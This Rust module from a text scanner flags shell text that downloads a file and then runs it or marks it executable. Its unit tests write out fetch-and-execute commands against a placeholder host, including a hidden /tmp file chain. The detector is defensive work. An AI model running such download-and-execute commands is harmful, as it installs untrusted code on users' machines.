//! A file that is downloaded by one command and run by a later one.
//!
//! A regular expression cannot require the same name again, so this is done by hand: find the name
//! under which a download is stored, then check whether one of the following lines runs it or makes
//! it executable.

use super::Hit;
use super::context::Context;
use super::words::PlainText;

const SAYS: &str = "It downloads something and runs it.";

/// The distance after the download to search, in bytes and lines.
const REACH: usize = 600;
const LINES: usize = 8;

/// Finds all downloads that are run afterwards.
pub(super) fn find(view: &PlainText, context: &Context<'_>) -> Vec<Hit> {
    let mut hits = Vec::new();
    let starts = ["curl ", "wget ", "iwr ", "invoke-webrequest ", "fetch ", "aria2c "];
    for start in starts.iter().flat_map(|word| view.text.match_indices(word)).map(|(at, _)| at) {
        let rest = crate::text::cut_bytes(view.text.get(start..).unwrap_or_default(), REACH);
        let command = rest.get(..rest.find(['\n', ';', '&', '|']).unwrap_or(rest.len())).unwrap_or_default();
        let after = rest.get(command.len()..).unwrap_or_default();
        let Some(name) = stored_as(command) else { continue };
        if let Some(end) = run(after, name) {
            let at = view.origin(start)..view.origin(start + command.len() + end);
            if !context.is_warning(&at) {
                hits.push(Hit { rule: "download", at, says: SAYS });
            }
        }
    }
    hits
}

/// Returns the file name under which a download is stored.
fn stored_as(command: &str) -> Option<&str> {
    let words: Vec<&str> = command.split_whitespace().map(|word| word.trim_matches(['"', '\'', '`'])).collect();
    let named = words.iter().zip(words.iter().skip(1)).find_map(|(option, value)| {
        let is_output = matches!(*option, "-o" | "--output" | "-outfile" | ">" | "--output-document")
            || option.starts_with('-') && !option.starts_with("--") && option.ends_with('o');
        (is_output && !value.contains("://")).then_some(*value)
    });
    let path = named.or_else(|| words.iter().rev().copied().find(|word| word.contains("://")))?;
    let name = path.rsplit(['/', '\\']).next()?.split('?').next()?;
    (!name.is_empty() && name != "-").then_some(name)
}

/// Returns the end of the first place where a file of this name is run.
fn run(after: &str, name: &str) -> Option<usize> {
    for (at, _) in after.match_indices(name) {
        let before = after.get(..at)?;
        if before.matches('\n').count() > LINES {
            return None;
        }
        let command = before.get(before.rfind(['\n', ';', '&', '|', '`']).map_or(0, |end| end + 1)..)?;
        let ends = after
            .get(at + name.len()..)?
            .starts_with(|c: char| !(c.is_alphanumeric() || matches!(c, '.' | '-' | '_' | '/')));
        if (ends || at + name.len() == after.len()) && runs(command) {
            return Some(at + name.len());
        }
    }
    None
}

/// Returns whether a command that continues with a file path runs that file.
fn runs(command: &str) -> bool {
    let mut words: Vec<&str> = command.trim_start_matches(['`', '$', '>', ' ', '\t', '-']).split_whitespace().collect();
    // The folder of the file.
    let folder = if command.ends_with(['/', '\\']) { words.pop() } else { None };
    words.retain(|word| *word != "sudo" && *word != "nohup");
    match words.first() {
        None => folder.is_some(),
        Some(&"chmod") => words.iter().any(|word| word.contains('x') || word.starts_with('7')),
        Some(first) => {
            let program = first.rsplit('/').next().unwrap_or(first);
            matches!(
                program,
                "sh" | "bash"
                    | "zsh"
                    | "dash"
                    | "source"
                    | "."
                    | "perl"
                    | "ruby"
                    | "node"
                    | "php"
                    | "powershell"
                    | "pwsh"
                    | "start"
                    | "msiexec"
                    | "open"
            ) || program.starts_with("python")
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn count(text: &str) -> usize {
        find(&PlainText::of(text), &Context::of(text)).len()
    }

    #[test]
    fn what_is_stored_and_run_is_found() {
        for text in [
            "wget http://x.example/a.sh && bash a.sh",
            "curl -o /tmp/.t https://x.example/b\nchmod +x /tmp/.t\n/tmp/.t",
            "curl -sLO https://x.example/run.py; python3 run.py",
            "wget -q x.example/b -O /tmp/b; /tmp/b &",
        ] {
            assert_eq!(count(text), 1, "{text}");
        }
        for text in [
            "curl -o data.csv https://x.example/d\npython3 plot.py",
            "wget https://x.example/a.tar.gz\ntar xzf a.tar.gz",
            "curl https://x.example/bash",
        ] {
            assert_eq!(count(text), 0, "{text}");
        }
    }
}
